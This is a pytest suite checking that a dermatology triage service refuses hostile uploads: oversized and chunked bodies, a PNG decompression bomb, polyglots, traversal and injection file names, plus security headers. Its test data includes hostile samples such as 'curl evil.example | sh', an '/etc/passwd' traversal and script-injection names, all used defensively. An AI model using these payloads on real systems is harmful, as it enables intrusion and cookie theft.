"""Hostile uploads: each gets a clear 4xx, and leaves nothing behind (no case row, no file).

Real application, real SQLite, real photo store, real derm-dev photos; the hostile files are
built here from real photos (a ZIP glued after a JPEG, a PNG declaring a gigapixel, ...).
"""

from __future__ import annotations

import io
import json
import re
import struct
import unicodedata
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image
from sqlalchemy import func, select

from serving.app import create_app
from serving.db.models import Case
from serving.security_headers import CONTENT_SECURITY_POLICY, csp_hash
from serving.settings import Settings
from serving.uploads import display_name
from tests.serving.conftest import sign_in

GP, READER = "dr-martin", "dr-bernard"
MAX_FILE = 400_000
MAX_REQUEST = 1_000_000


def questionnaire() -> dict[str, Any]:
    return {
        "patient_pseudonym": "PAT-0042",
        "age": 61,
        "sex": "female",
        "fitzpatrick": "II",
        "body_site": "back",
        "duration": "6_12_months",
        "clinical_question": "Lésion pigmentée qui change, avis ?",
    }


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    """One service for the module (signing in hashes a password: slow on purpose); each test
    checks what *it* left behind against the state before it (:func:`nothing_left`)."""
    limited = Settings(
        data_dir=tmp_path_factory.mktemp("intake") / "data",
        mlflow_tracking_uri=None,
        database_url=None,
        scoring_worker=False,
        max_upload_bytes=MAX_FILE,
        max_request_bytes=MAX_REQUEST,
    )
    with TestClient(create_app(limited)) as test_client:
        yield test_client


def _state(client: TestClient) -> tuple[int, set[Path]]:
    runtime = client.app.state.case_runtime  # type: ignore[attr-defined]
    with runtime.database.session() as session:
        cases = session.scalar(select(func.count()).select_from(Case)) or 0
    return cases, {p for p in runtime.store.root.rglob("*") if p.is_file()}


@pytest.fixture(autouse=True)
def _before(request: pytest.FixtureRequest) -> None:
    if "client" in request.fixturenames:
        request.node.state_before = _state(request.getfixturevalue("client"))


@pytest.fixture
def photo(derm_images: list[Path]) -> bytes:
    return derm_images[0].read_bytes()


def submit(client: TestClient, files: list[tuple[str, bytes, str]], **kw: Any) -> Any:
    """POST a case with ``files`` as (file name, bytes, declared content type)."""
    parts = [("photos", (name, data, ctype)) for name, data, ctype in files]
    return client.post(
        "/api/v1/cases",
        data={"questionnaire": json.dumps(questionnaire())},
        files=parts,
        headers=sign_in(client, GP),
        **kw,
    )


def nothing_left(request: pytest.FixtureRequest, client: TestClient) -> None:
    """No new case row and no new file: the refused request left no trace."""
    cases, files = _state(client)
    cases_before, files_before = request.node.state_before
    assert cases == cases_before
    assert files - files_before == set()


def refusal(response: Any) -> dict[str, Any]:
    detail = response.json()["detail"]
    assert isinstance(detail, dict), detail
    return detail


# --- size limits -----------------------------------------------------------------------------


def test_a_file_over_the_per_file_limit_is_refused_while_it_streams(
    request: pytest.FixtureRequest, client: TestClient, photo: bytes
) -> None:
    big = photo + b"\x00" * (MAX_FILE + 10 - len(photo))  # valid JPEG, padded past the limit
    response = submit(client, [("big.jpg", big, "image/jpeg")])
    assert response.status_code == 413
    assert refusal(response)["code"] == "too_large"
    assert str(MAX_FILE) in refusal(response)["message"]
    nothing_left(request, client)


def test_a_request_announcing_too_many_bytes_is_refused_before_reading(
    request: pytest.FixtureRequest,
    client: TestClient,
) -> None:
    headers = {**sign_in(client, GP), "Content-Type": "multipart/form-data; boundary=x"}
    headers["Content-Length"] = str(MAX_REQUEST + 1)
    # The body is shorter than announced: the server answers without waiting for the rest.
    response = client.post("/api/v1/cases", content=b"--x--", headers=headers)
    assert response.status_code == 413
    assert refusal(response)["code"] == "too_large"
    nothing_left(request, client)


def test_a_chunked_request_is_cut_off_at_the_request_limit(
    request: pytest.FixtureRequest, client: TestClient, photo: bytes
) -> None:
    boundary = "hostileboundary"
    head = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="questionnaire"\r\n\r\n'
        f"{json.dumps(questionnaire())}\r\n"
    ).encode()
    sent = {"bytes": 0}

    def body() -> Iterator[bytes]:  # no Content-Length: chunked transfer
        yield head
        for index in range(40):  # 40 x 60 kB photos would be 2.4 MB, over the 1 MB request cap
            chunk = (
                (
                    f'--{boundary}\r\nContent-Disposition: form-data; name="photos"; '
                    f'filename="p{index}.jpg"\r\nContent-Type: image/jpeg\r\n\r\n'
                ).encode()
                + photo
                + b"\x00" * (60_000 - len(photo))
                + b"\r\n"
            )
            sent["bytes"] += len(chunk)
            yield chunk
        yield f"--{boundary}--\r\n".encode()

    headers = {**sign_in(client, GP), "Content-Type": f"multipart/form-data; boundary={boundary}"}
    response = client.post("/api/v1/cases", content=body(), headers=headers)
    assert response.status_code in (413, 422)  # too large, or too many files first
    assert refusal(response)["code"] in ("too_large", "too_many_files")
    nothing_left(request, client)


def test_too_many_files_are_refused_at_the_first_file_too_many(
    request: pytest.FixtureRequest, client: TestClient, photo: bytes
) -> None:
    response = submit(client, [(f"p{i}.jpg", photo, "image/jpeg") for i in range(6)])
    assert response.status_code == 422
    assert refusal(response)["code"] == "too_many_files"
    assert refusal(response)["errors"]["photos"] == "Joignez de 1 à 5 photos."
    nothing_left(request, client)


def test_a_body_that_is_not_a_form_gets_415(
    request: pytest.FixtureRequest, client: TestClient
) -> None:
    response = client.post(
        "/api/v1/cases", json={"questionnaire": questionnaire()}, headers=sign_in(client, GP)
    )
    assert response.status_code == 415
    assert refusal(response)["code"] == "not_multipart"
    nothing_left(request, client)


def test_a_malformed_multipart_body_gets_400(
    request: pytest.FixtureRequest, client: TestClient
) -> None:
    headers = {**sign_in(client, GP), "Content-Type": "multipart/form-data; boundary=abc"}
    response = client.post(
        "/api/v1/cases", content=b"--abc\r\nno headers here at all", headers=headers
    )
    assert response.status_code in (400, 422)
    nothing_left(request, client)


# --- content, not names --------------------------------------------------------------------


def test_content_is_sniffed_not_the_extension_nor_the_declared_type(
    request: pytest.FixtureRequest, client: TestClient, photo: bytes
) -> None:
    renamed_pdf = submit(client, [("lesion.jpg", b"%PDF-1.7\n%binary\n1 0 obj", "image/jpeg")])
    assert renamed_pdf.status_code == 422
    assert "n'est pas une image" in refusal(renamed_pdf)["errors"]["photos.0"]
    nothing_left(request, client)
    jpeg_named_pdf = submit(client, [("scan.pdf", photo, "application/pdf")])
    assert jpeg_named_pdf.status_code == 201  # a real photo is a photo, whatever its name


def _png_declaring(width: int, height: int) -> bytes:
    """A tiny PNG whose header declares ``width`` x ``height`` pixels (a decompression bomb)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00" * 1024, 9)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def test_a_decompression_bomb_is_refused_without_decoding(
    request: pytest.FixtureRequest, client: TestClient
) -> None:
    bomb = _png_declaring(60_000, 60_000)  # 3.6 gigapixels in about a hundred bytes
    assert len(bomb) < 200
    response = submit(client, [("bomb.png", bomb, "image/png")])
    assert response.status_code == 422
    assert "pixels" in refusal(response)["errors"]["photos.0"]
    nothing_left(request, client)


def test_a_picture_one_pixel_wide_is_refused_not_a_crash(
    request: pytest.FixtureRequest, client: TestClient
) -> None:
    buffer = io.BytesIO()
    Image.new("RGB", (1, 300), (150, 90, 80)).save(buffer, "PNG")
    response = submit(client, [("line.png", buffer.getvalue(), "image/png")])
    assert response.status_code == 422  # found by schemathesis: it used to be a 500
    assert "pixels" in refusal(response)["errors"]["photos.0"]
    nothing_left(request, client)


def test_a_truncated_photo_is_refused(
    request: pytest.FixtureRequest, client: TestClient, photo: bytes
) -> None:
    response = submit(client, [("cut.jpg", photo[: len(photo) * 2 // 3], "image/jpeg")])
    assert response.status_code == 422
    assert "tronqué" in refusal(response)["errors"]["photos.0"]
    nothing_left(request, client)


def _zip_archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: Evil\n")
        archive.writestr("Evil.class", b"\xca\xfe\xba\xbe" + b"\x00" * 64)
    return buffer.getvalue()


@pytest.mark.parametrize(
    "payload",
    [
        pytest.param(_zip_archive(), id="jpeg+jar (GIFAR-like)"),
        pytest.param(b"<html><script>alert(document.cookie)</script></html>", id="jpeg+html"),
        pytest.param(b"#!/bin/sh\ncurl evil.example | sh\n", id="jpeg+script"),
    ],
)
def test_a_polyglot_with_data_after_the_image_is_refused(
    request: pytest.FixtureRequest, client: TestClient, photo: bytes, payload: bytes
) -> None:
    response = submit(client, [("holiday.jpg", photo + payload, "image/jpeg")])
    assert response.status_code == 422
    assert "après la fin de l'image" in refusal(response)["errors"]["photos.0"]
    nothing_left(request, client)


def test_a_png_polyglot_is_refused_too(
    request: pytest.FixtureRequest, client: TestClient, photo: bytes
) -> None:
    buffer = io.BytesIO()
    with Image.open(io.BytesIO(photo)) as image:
        image.save(buffer, "PNG")
    response = submit(client, [("x.png", buffer.getvalue() + _zip_archive(), "image/png")])
    assert response.status_code == 422
    nothing_left(request, client)


# --- hostile file names ----------------------------------------------------------------------

HOSTILE_NAMES = [
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\config.jpg",
    "photo\x00.php",
    "a" * 1000 + ".jpg",
    "line\r\nInjected-Header: 1.jpg",
    '<img src=x onerror="alert(1)">.jpg',
    "lesion\u202egpj.exe",
]


def test_hostile_file_names_never_reach_the_disk_nor_the_answer(
    client: TestClient, photo: bytes
) -> None:
    store_root = client.app.state.case_runtime.store.root  # type: ignore[attr-defined]
    for name in HOSTILE_NAMES:
        response = submit(client, [(name, photo, "image/jpeg")])
        assert response.status_code == 201, (name[:40], response.text[:200])
        assert "passwd" not in response.text and "onerror" not in response.text
        assert "Injected-Header" not in response.headers
    stored = [p for p in store_root.rglob("*") if p.is_file()]
    assert stored and all(
        len(p.name) == 64 and p.parent.parent.parent == store_root for p in stored
    )
    data_dir = store_root.parent
    assert not (data_dir.parent / "etc").exists() and not list(data_dir.rglob("*passwd*"))


def test_a_file_name_longer_than_a_part_header_allows_is_refused(
    request: pytest.FixtureRequest, client: TestClient, photo: bytes
) -> None:
    response = submit(client, [("a" * 5000 + ".jpg", photo, "image/jpeg")])
    assert response.status_code == 400
    assert refusal(response)["code"] == "malformed_multipart"
    nothing_left(request, client)


def test_a_refused_hostile_name_is_shown_back_defused(
    request: pytest.FixtureRequest, client: TestClient, photo: bytes
) -> None:
    big = photo + b"\x00" * MAX_FILE
    response = submit(client, [("<script>alert(1)</script>\x00../../x.jpg", big, "image/jpeg")])
    assert response.status_code == 413
    message = refusal(response)["message"]
    assert "<" not in message and "\x00" not in message and ".." not in message
    nothing_left(request, client)


def test_display_name_keeps_only_a_short_harmless_last_component() -> None:
    assert display_name("../../etc/passwd") == "passwd"
    assert display_name("C:\\Users\\x\\photo.jpg") == "photo.jpg"
    assert display_name("a\x00b\x1b[31m.jpg") == "ab[31m.jpg"
    assert display_name("<b>bold</b>.jpg") == "b.jpg"
    assert display_name("lesion\u202egpj.exe") == "lesiongpj.exe"  # no bidi trick
    assert len(display_name("x" * 5000)) == 80
    assert display_name("") == display_name(None) == display_name("../..") == "photo"


@settings(max_examples=300, deadline=None, derandomize=True)
@given(st.text(max_size=400) | st.binary(max_size=400).map(lambda b: b.decode("latin-1")))
def test_any_file_name_is_shown_as_one_short_harmless_component(raw: str) -> None:
    shown = display_name(raw)
    assert 0 < len(shown) <= 80
    assert not set(shown) & set("/\\<>\"'`&")
    assert all(unicodedata.category(ch)[0] != "C" for ch in shown)
    assert shown not in (".", "..")


# --- pages -----------------------------------------------------------------------------------


def test_the_gp_form_refuses_an_oversized_request_with_a_page_in_the_gp_language(
    request: pytest.FixtureRequest,
    client: TestClient,
) -> None:
    sign_in(client, GP)
    too_big = b"x" * (MAX_REQUEST + 1)
    french = client.post("/gp/requests/new", files={"photo_close_up": ("p.jpg", too_big)})
    assert french.status_code == 413
    assert french.headers["content-type"].startswith("text/html")
    assert "Envoi trop volumineux" in french.text
    english = client.post("/gp/requests/new?lang=en", files={"photo_close_up": ("p.jpg", too_big)})
    assert english.status_code == 413 and "Upload too large" in english.text
    nothing_left(request, client)


def test_the_gp_form_shows_a_polyglot_refusal_in_french(
    request: pytest.FixtureRequest, client: TestClient, photo: bytes
) -> None:
    sign_in(client, GP)
    fields = {
        "patient_pseudonym": "PAT-0042",
        "age": "61",
        "sex": "female",
        "fitzpatrick": "II",
        "body_site": "back",
        "duration": "6_12_months",
        "clinical_question": "Avis sur cette lésion pigmentée ?",
    }
    response = client.post(
        "/gp/requests/new",
        data=fields,
        files={"photo_close_up": ("x.jpg", photo + _zip_archive(), "image/jpeg")},
    )
    assert response.status_code == 422
    errors = re.findall(r'class="error-text"[^>]*>([^<]*)<', response.text)
    assert len(errors) == 1 and "après la fin de l&#39;image" in errors[0], errors
    nothing_left(request, client)


# --- security headers ------------------------------------------------------------------------


def test_every_answer_carries_the_security_headers(client: TestClient, photo: bytes) -> None:
    headers = sign_in(client, GP)
    answers = {
        "page": client.get("/login"),
        "api": client.get("/api/v1/cases", headers=headers),
        "not found": client.get("/no/such/page"),
        "refused": client.post("/api/v1/cases", content=b"{}", headers=headers),
        "case": submit(client, [("p.jpg", photo, "image/jpeg")]),
    }
    for what, response in answers.items():
        got = response.headers
        assert got["content-security-policy"] == CONTENT_SECURITY_POLICY, what
        assert "frame-ancestors 'none'" in got["content-security-policy"]
        assert "script-src 'self';" in got["content-security-policy"]
        assert got["x-content-type-options"] == "nosniff", what
        assert got["x-frame-options"] == "DENY", what
        assert got["referrer-policy"] == "same-origin", what
        assert "geolocation=()" in got["permissions-policy"], what
        assert got["cache-control"] == "no-store", what
        assert "strict-transport-security" not in got, what  # plain http: no HSTS
    case = answers["case"].json()
    photo_url = case["photos"][0]["url"]
    assert client.get(photo_url, headers=headers).headers["cache-control"] == "no-store"


def test_the_csp_allows_the_style_matplotlib_writes_into_our_svg_charts() -> None:
    import matplotlib

    matplotlib.use("Agg")
    from matplotlib import pyplot

    figure = pyplot.figure()
    buffer = io.StringIO()
    figure.savefig(buffer, format="svg")
    pyplot.close(figure)
    styles = re.findall(r"<style[^>]*>(.*?)</style>", buffer.getvalue(), re.S)
    assert styles and all(csp_hash(style) in CONTENT_SECURITY_POLICY for style in styles)


def test_static_files_may_be_cached_and_https_gets_hsts(settings: Settings) -> None:
    app = create_app(settings.model_copy(update={"scoring_worker": False}))
    with TestClient(app, base_url="https://dermtriage.example") as secure:
        css = secure.get("/static/app.css")
        assert css.status_code == 200
        assert css.headers.get("cache-control") != "no-store"
        assert css.headers["x-content-type-options"] == "nosniff"
        assert (
            secure.get("/login").headers["strict-transport-security"].startswith("max-age=31536000")
        )
